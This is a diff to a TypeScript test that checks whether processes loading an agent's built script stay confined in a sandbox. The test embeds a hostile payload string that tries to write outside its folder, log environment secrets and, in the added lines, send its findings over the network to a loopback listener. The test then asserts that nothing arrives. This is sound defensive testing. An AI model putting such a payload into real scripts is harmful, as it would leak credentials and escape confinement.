@@ -20,6 +20,8 @@ import { REPO } from '../support/agentStack';
 import { startFakeNango, type FakeNango } from '../support/fakeNango';
 import { buildTemplate, installCopy } from '../support/verifySamples';
 import { INPUT } from '../support/calendarScript';
+import * as http from 'node:http';
+import { closeServer, listenLoopback } from '../../src/core/util/httpServer';
 
 const base = path.join(REPO, '.test-runs', `toolchain-confined-${process.pid}`);
 const work = path.join(base, 'work');
@@ -28,6 +30,9 @@ const outside = path.join(base, 'escaped.txt');
 const SECRET = `sk-canary-${process.pid}`;
 let template: string;
 let nango: FakeNango;
+/** A listener on the host's 127.0.0.1: what reaches it left the sandbox over the network. */
+const leak = { url: '', hits: [] as string[] };
+let leakServer: http.Server;
 
 /** Top-level code run when the built script is imported: tries to leave the folder, read secrets, touch the fixture. */
 const PAYLOAD = (fixture: string) => `
@@ -42,6 +47,8 @@ try {
     try { fs.appendFileSync(${JSON.stringify(outside)}, 'escaped from ' + who + '\\n'); } catch { /* the sandbox */ }
     try { fs.appendFileSync('ran-here.txt', who + ' secrets[' + secrets + ']\\n'); } catch { /* read-only */ }
     try { fs.appendFileSync(${JSON.stringify(fixture)}, ' '); } catch { /* read-only */ }
+    // and send what it found out of the machine (here: to a listener of the test's on the host)
+    g.fetch(${JSON.stringify(leak.url)} + '/' + encodeURIComponent(who)).catch(() => undefined);
 } catch { /* no fs */ }
 `;
 
@@ -70,10 +77,16 @@ beforeAll(async () => {
   mkdirSync(base, { recursive: true });
   template = await buildTemplate(path.join(base, 'templates'), 'create-event');
   nango = await startFakeNango();
+  leakServer = http.createServer((req, res) => {
+    leak.hits.push(req.url ?? '');
+    res.end('got it');
+  });
+  leak.url = await listenLoopback(leakServer);
 }, 180_000);
 
 afterAll(async () => {
   await nango?.close();
+  await closeServer(leakServer);
   rmSync(base, { recursive: true, force: true });
 });
 
@@ -123,6 +136,8 @@ describe("the toolchain processes that load the agent's script run confined", ()
       expect(l).toMatch(/NANGO_SECRET_KEY_DEV=ib-recorder-[0-9a-f]{48}\b/);
     }
     expect(nango.requests.some((r) => r.path.startsWith('/proxy/calendar/v3/calendars/primary/events'))).toBe(true);
+    // no process that ran the script — compile, generator, tests, recorder — reached the network
+    expect(leak.hits, 'nothing left the sandbox over the network').toEqual([]);
     expect(existsSync(outside), existsSync(outside) ? readFileSync(outside, 'utf8') : '').toBe(false);
   }, 400_000);
 
